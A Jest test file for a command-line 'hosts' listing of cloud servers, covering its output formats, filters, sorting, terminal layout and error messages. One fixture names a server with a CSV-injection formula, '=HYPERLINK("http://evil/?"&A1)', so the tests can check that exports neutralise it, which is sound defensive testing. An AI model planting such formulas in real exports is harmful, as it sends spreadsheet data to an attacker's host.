import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import stringWidth from 'string-width';
import { main } from '../../src/cli/main.ts';
import { openWorkplace, type Workplace } from '../helpers/run-program.ts';
import { expectError, expectHelp, expectUsage } from './helpers/expectations.ts';
import { expectSchema } from './helpers/schemas.ts';

const servers = 400;

describe('hosts', () => {
  let place: Workplace;
  beforeAll(async () => {
    place = await openWorkplace({ accounts: 2, servers, regions: ['cn-north-4', 'cn-east-3'], pageSize: 100 });
    const { state } = place.sandbox;
    state.addServer('cn-north-4', { name: '=HYPERLINK("http://evil/?"&A1)', status: 'SHUTOFF' });
    state.addServer('cn-north-4', { name: '生产-数据库', status: 'BUILD' });
    state.addServer('cn-north-4', { name: 'plain name', status: 'BUILD' });
    state.addServer('cn-east-3', { name: 'escape \u001b[31m and "quotes", commas' });
    state.addServer('cn-east-3', {
      name: 'many-cards',
      addresses: {
        'vpc-a': [
          { version: '4', addr: '192.168.0.10', 'OS-EXT-IPS:type': 'fixed' },
          { version: '4', addr: '198.51.100.7', 'OS-EXT-IPS:type': 'floating' },
          { version: '6', addr: '2001:db8::10', 'OS-EXT-IPS:type': 'fixed' },
        ],
        'vpc-b': [
          { version: '4', addr: '10.1.0.10', 'OS-EXT-IPS:type': 'fixed' },
          { version: '4', addr: '198.51.100.8', 'OS-EXT-IPS:type': 'floating' },
        ],
      },
    });
    state.addServer('cn-east-3', {
      name: 'only-six',
      status: 'ACTIVE',
      addresses: { 'vpc-a': [{ version: '6', addr: '2001:db8::66', 'OS-EXT-IPS:type': 'fixed' }] },
    });
    await place.onboardQuick('production', 0);
    await place.onboardQuick('empty', 1, '--no-sync-now');
  }, 60_000);
  afterAll(() => place.close());

  const hosts = (...argv: string[]) => place.run(['hosts', ...argv]);
  const all = servers + 6;

  test('--help ends with examples', () => expectHelp(place, 'hosts'));

  test('--json prints what its schema says, a record a line', async () => {
    const result = await hosts('--json');
    expect(result.code).toBe(0);
    expectSchema('hosts', result.json);
    expect(result.json).toHaveLength(all);
    expect(result.stdout.split('\n')).toHaveLength(all + 3);
  });

  test('--output json prints the same', async () => {
    expect((await hosts('--output', 'json')).stdout).toBe((await hosts('--json')).stdout);
  });

  test('--output ndjson prints the items of --json, one a line', async () => {
    const lines = (await hosts('--output', 'ndjson')).stdout.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual((await hosts('--json')).json);
  });

  test('--output csv prints named columns; a name that is a formula stays a text', async () => {
    const { stdout } = await hosts('--output', 'csv', '--region', 'cn-north-4');
    const rows: Record<string, string>[] = parse(stdout, { columns: true });
    expect(rows).toHaveLength(servers / 2 + 3);
    expect(Object.keys(rows[0] ?? {}).slice(0, 6)).toEqual(['account', 'region', 'id', 'name', 'type', 'status']);
    expect(rows.map((row) => row.name)).toContain('\'=HYPERLINK("http://evil/?"&A1)');
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('the table has titles in words and columns that line up, Chinese counted double', async () => {
    const { stdout } = await hosts('--status', 'build');
    const [head = '', ...rows] = stdout.trimEnd().split('\n');
    expect(head).toMatch(/^ACCOUNT +REGION +NAME +STATUS +PRIVATE IP +PUBLIC IP +OS +FLAVOR$/);
    expect(rows).toHaveLength(2);
    const at = stringWidth(head.slice(0, head.indexOf('STATUS')));
    for (const row of rows) expect(stringWidth(row.slice(0, row.indexOf('BUILD')))).toBe(at);
  });

  test('--columns picks fields, also from within tags and documents, in every format', async () => {
    const asked = ['--where', 'status = build', '--columns', 'name,tags.owner,document.flavor.vcpus,privateIps'];
    const { json } = await hosts(...asked, '--json');
    expect(json.map(Object.keys)).toEqual([
      ['name', 'tags.owner', 'document.flavor.vcpus', 'privateIps'],
      ['name', 'tags.owner', 'document.flavor.vcpus', 'privateIps'],
    ]);
    expect(json[0]['document.flavor.vcpus']).toMatch(/^\d+$/);
    const lines = (await hosts(...asked, '--output', 'ndjson')).stdout.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(json);
    const rows: Record<string, string>[] = parse((await hosts(...asked, '--output', 'csv')).stdout, { columns: true });
    expect(rows.map(({ name }) => name)).toEqual(json.map(({ name }: { name: string }) => name));
    const table = (await hosts(...asked)).stdout.split('\n');
    expect(table[0]).toMatch(/^NAME +TAGS\.OWNER +DOCUMENT\.FLAVOR\.VCPUS +PRIVATEIPS$/);
    expect((await hosts(...asked, '--query', '[].name')).json).toEqual(json.map(({ name }: { name: string }) => name));
  });

  test('--columns document prints what the cloud answered, without secrets', async () => {
    const { json } = await hosts('--limit', '1', '--columns', 'document', '--json');
    expect(json[0].document).toMatchObject({ status: expect.any(String), id: expect.any(String) });
    expect(JSON.stringify(json)).not.toContain('user_data');
  });

  test('--sort orders, what has no value comes last, and --limit cuts', async () => {
    const names = async (...argv: string[]): Promise<string[]> =>
      (await hosts(...argv, '--json')).json.map(({ name }: { name: string }) => name);
    const all = await names();
    const sorted = [...all].sort((a, b) => Buffer.compare(Buffer.from(a.toLowerCase()), Buffer.from(b.toLowerCase())));
    expect(await names('--sort', 'name')).toEqual(sorted);
    expect(await names('--sort', 'name:desc', '--limit', '3')).toEqual([...sorted].reverse().slice(0, 3));
    expect(await names('--limit', '3')).toEqual(all.slice(0, 3));
    const keys: { keyName: string | null; vcpus: number }[] = (await hosts('--sort', 'keyName:desc,vcpus', '--json'))
      .json;
    const firstWithout = keys.findIndex(({ keyName }) => keyName === null);
    expect(firstWithout).toBeGreaterThan(0);
    expect(keys.slice(firstWithout).every(({ keyName }) => keyName === null)).toBe(true);
    const cores = keys.slice(0, firstWithout).map(({ vcpus }) => vcpus);
    expect(cores).toEqual([...cores].sort((a, b) => a - b));
  });

  describe('addresses', () => {
    const row = async (name: string): Promise<string[]> => {
      const { stdout } = await hosts('--where', `name = ${name}`, '--columns', 'privateIps,publicIps,ipv6s');
      return stdout.trimEnd().split('\n')[1]?.split(/ {2,}/) ?? [];
    };

    test('of several network cards: the first, and how many more', async () => {
      expect(await row('many-cards')).toEqual(['192.168.0.10 +1', '198.51.100.7 +1', '2001:db8::10']);
      const { json } = await hosts('--where', 'publicIps = 198.51.100.8', '--json');
      expect(json).toMatchObject([
        { name: 'many-cards', privateIps: ['192.168.0.10', '10.1.0.10'], publicIps: ['198.51.100.7', '198.51.100.8'] },
      ]);
    });

    test('of a host without IPv4: its IPv6', async () => {
      const { stdout } = await hosts('--where', 'name = only-six');
      expect(stdout).toMatch(/only-six +ACTIVE +2001:db8::66 +- /);
      expect(await row('only-six')).toEqual(['-', '-', '2001:db8::66']);
    });
  });

  test.each([80, 100, 140])('on a terminal of %i columns no line is wider, and columns line up', async (columns) => {
    const { stdout } = await place.run(['hosts', '--where', 'status in (build, shutoff)'], { columns });
    const [head = '', ...rows] = stdout.trimEnd().split('\n');
    for (const line of [head, ...rows]) expect(stringWidth(line)).toBeLessThanOrEqual(columns);
    expect(rows.some((line) => line.includes('…'))).toBe(columns < 140);
    const at = stringWidth(head.slice(0, head.indexOf('STATUS')));
    for (const line of rows) expect(stringWidth(line.slice(0, line.search(/BUILD|SHUTOFF/)))).toBe(at);
  });

  test('what is no terminal gets every cell whole', async () => {
    expect((await hosts('--search', 'HYPERLINK')).stdout).toContain('=HYPERLINK("http://evil/?"&A1)');
  });

  test('a control character of a name never reaches the terminal', async () => {
    const { stdout } = await hosts('--search', 'escape');
    expect(stdout).toContain('escape  [31m and "quotes", commas');
    expect(stdout).not.toContain('\u001b');
  });

  test.each<[string[], number]>([
    [['--account', 'production'], all],
    [['--account', 'empty'], 0],
    [['--account', 'empty,production'], all],
    [['--region', 'cn-east-3'], servers / 2 + 3],
    [['--region', 'cn-east-3', '--region', 'cn-north-4'], all],
    [['--region', 'cn-nowhere-1'], 0],
    [['--status', 'BUILD'], 2],
    [['--status', 'build,shutoff', '--search', 'HYPERLINK'], 1],
    [['--type', 'ecs.server'], all],
    [['--type', 'evs.volumes'], 0],
    [['--search', '数据库', '--status', 'BUILD'], 1],
    [['--search', 'quotes", commas'], 1],
    [['--where', 'status = build and name ~ 数据'], 1],
    [['--where', 'status in (build, shutoff)', '--search', 'HYPERLINK'], 1],
    [['--where', 'account = production and region = cn-east-3'], servers / 2 + 3],
    [['--where', 'account != production'], 0],
    [['--where', 'createdAt > now'], 0],
  ])('%j chooses %i', async (flags, count) => {
    expect((await hosts(...flags, '--json')).json).toHaveLength(count);
  });

  test('nothing chosen is [] in JSON, a header in CSV, nothing in NDJSON and a hint in words', async () => {
    const none = ['--account', 'empty'];
    expect((await hosts(...none, '--json')).stdout).toBe('[]\n');
    expect((await hosts(...none, '--output', 'csv')).stdout).toMatch(/^account,region,id,[^\n]+\n$/);
    expect((await hosts(...none, '--output', 'ndjson')).stdout).toBe('');
    expect((await hosts(...none)).stdout).toContain('huawei-assets sync hosts');
  });

  test('--query picks from the whole list', async () => {
    expect((await hosts('--query', "[?status == 'BUILD'].name | sort(@)")).json).toEqual(['plain name', '生产-数据库']);
  });

  test('nothing is asked of the cloud', async () => {
    const before = place.sandbox.requests.length;
    await hosts('--json');
    expect(place.sandbox.requests).toHaveLength(before);
  });

  /** Runs with a reader of its own. */
  const runInto = (stdout: Writable, argv: string[], signal = new AbortController().signal) => {
    const stderr = new Writable({ write: (_chunk, _encoding, done) => done() });
    const io = { env: place.env, stdin: process.stdin, stderr, signal, now: Date.now, homeDir: place.home };
    return main({ ...io, argv, stdout });
  };

  test.each(['json', 'ndjson', 'csv'])('a slow reader of %s is waited for', async (format) => {
    let [held, most] = [0, 0];
    const slow = new Writable({
      highWaterMark: 1,
      decodeStrings: false,
      write: (chunk: string, _encoding, done) => {
        held = slow.writableLength;
        most = Math.max(most, held - chunk.length);
        setImmediate(done);
      },
    });
    expect(await runInto(slow, ['hosts', '--output', format])).toBe(0);
    expect(most).toBe(0);
  });

  test('Ctrl-C ends a list whose reader has stopped: exit 130', async () => {
    const stop = new AbortController();
    const stuck = new Writable({ highWaterMark: 1, write: () => stop.abort() });
    expect(await runInto(stuck, ['hosts', '--output', 'ndjson'], stop.signal)).toBe(130);
  });

  test.each<[string[], RegExp]>([
    [['--output', 'xml'], /table, json, ndjson, csv/],
    [['--json', '--output', 'csv'], /--json prints a JSON document/],
    [['--query', '[0]', '--output', 'ndjson'], /--query prints a JSON document/],
    [['--columns', 'name,nmae'], /no field "nmae" \(did you mean name\?\)/],
    [['--sort', 'publicIps'], /"publicIps" holds more than one value/],
    [['--sort', 'nmae:desc'], /no field "nmae"/],
    [['--limit', '0'], /no whole number from 1/],
    [['--where', 'os ~'], /character 5: Expected expression after ~/],
    [['--where', 'publicip = null'], /no field "publicip" \(did you mean publicIp\?\)/],
  ])('%j is refused', (argv, says) => expectUsage(place, ['hosts', ...argv], says));

  test('a mark shows where a condition is not understood, Chinese counted double', async () => {
    const { code, stderr } = await hosts('--where', "name = '数据库' and\ncreatedAt > yesterday");
    expect(code).toBe(2);
    const [, shown = '', mark = ''] = stderr.split('\n');
    expect(shown).toBe("  name = '数据库' and createdAt > yesterday");
    expect(mark.trim()).toBe('^');
    expect(mark.length - 1).toBe(stringWidth(shown.slice(0, shown.indexOf('yesterday'))));
  });

  test('Ctrl-C ends a search that finds nothing', async () => {
    const stop = new AbortController();
    const nothing = new Writable({ write: (_chunk, _encoding, done) => done() });
    setImmediate(() => stop.abort());
    expect(await runInto(nothing, ['hosts', '--where', 'name = nobody', '--output', 'ndjson'], stop.signal)).toBe(130);
  });

  test('a damaged inventory is an error that names the file', async () => {
    const own = await openWorkplace();
    const { writeFile, mkdir } = await import('node:fs/promises');
    await mkdir(`${own.home}/data`);
    await writeFile(`${own.home}/data/inventory.db`, 'this is no database, whatever its name says'.repeat(100));
    const result = await own.run(['hosts', '--json']);
    expectError(result, 'inventory-error', 2);
    expect(result.error.error.message).toContain('inventory.db');
    await own.close();
  });
});
